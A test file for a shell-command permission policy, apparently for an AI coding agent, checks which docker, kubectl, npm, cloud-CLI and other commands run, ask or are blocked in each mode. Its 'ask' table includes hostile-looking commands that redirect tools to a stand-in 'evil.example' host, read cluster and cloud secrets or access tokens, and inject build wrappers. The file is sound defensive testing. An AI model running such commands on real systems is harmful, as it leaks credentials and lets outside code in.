import { expect, test } from 'vitest'
import { readCallText } from '../../call-text.ts'
import { decide } from '../../decide.ts'
import { compilePolicy } from '../../policy.ts'

const PLACE = { workspace: '/home/dev/project', cwd: '/home/dev/project', home: '/home/dev' }
const verdict = (command: string, mode: string) =>
  decide(readCallText(command, PLACE), compilePolicy({ mode, layers: [], builtins: false })).verdict

test.each([
  'docker ps -a --format "{{.Names}}"',
  'docker compose logs --tail=50 api',
  'docker network ls',
  'kubectl get pods -n prod -o wide | grep api',
  'kubectl describe pod api-0',
  'helm list -A',
  'npm ls --depth=0',
  'npm run',
  'npm view react version',
  'pnpm why react',
  'pip show requests',
  'uv pip list',
  'poetry show --tree',
  'cargo tree | head -30',
  'rustup toolchain list',
  'go env GOPATH',
  'go list ./...',
  'terraform state list',
  'gh pr list --state open --json number',
  'gh run view 12 --log-failed',
  'docker events --since 5m',
  'aws logs tail /ecs/worker --since 10m | head -50',
  'aws --profile prod s3 ls',
  "gcloud logging read 'severity>=ERROR' --limit 10",
])('P7.18 a query runs where reading runs, and not in plan: %s', (command) => {
  const said = ['default', 'acceptEdits', 'auto', 'strict', 'plan'].map((mode) => verdict(command, mode))
  expect(said).toEqual(['run', 'run', 'run', 'ask', 'block'])
})

test.each([
  'docker -H tcp://evil.example ps',
  'docker --config /tmp/evil ps',
  'docker compose -f /tmp/evil.yml ps',
  'docker network create x',
  'docker volume prune',
  'kubectl get secret db -o yaml',
  'kubectl get pods,secrets',
  'kubectl --kubeconfig=/tmp/evil get pods',
  'kubectl rollout restart deploy/api',
  'kubectl config set-context x',
  'npm ls --prefix /tmp/evil',
  'npm run build',
  'npm run $X',
  'npm config set registry https://evil.example',
  'npm pkg set name=x',
  'pip list --python /tmp/evil',
  'poetry config virtualenvs.create false',
  'conda config --add channels x',
  'go env -w GOFLAGS=-toolexec=x',
  'go list -toolexec=./x ./...',
  'cargo tree --config build.rustc-wrapper=x',
  'terraform -chdir=/tmp/evil show',
  'gh pr view 1 --web',
  'gh api -X DELETE repos/a/b',
  'docker ps > containers.txt',
  'aws s3 ls --endpoint-url http://evil.example',
  'aws secretsmanager get-secret-value --secret-id x',
  'gcloud auth print-access-token',
])('P7.18 what is more than a query asks: %s', (command) => {
  expect(verdict(command, 'default')).toBe('ask')
})
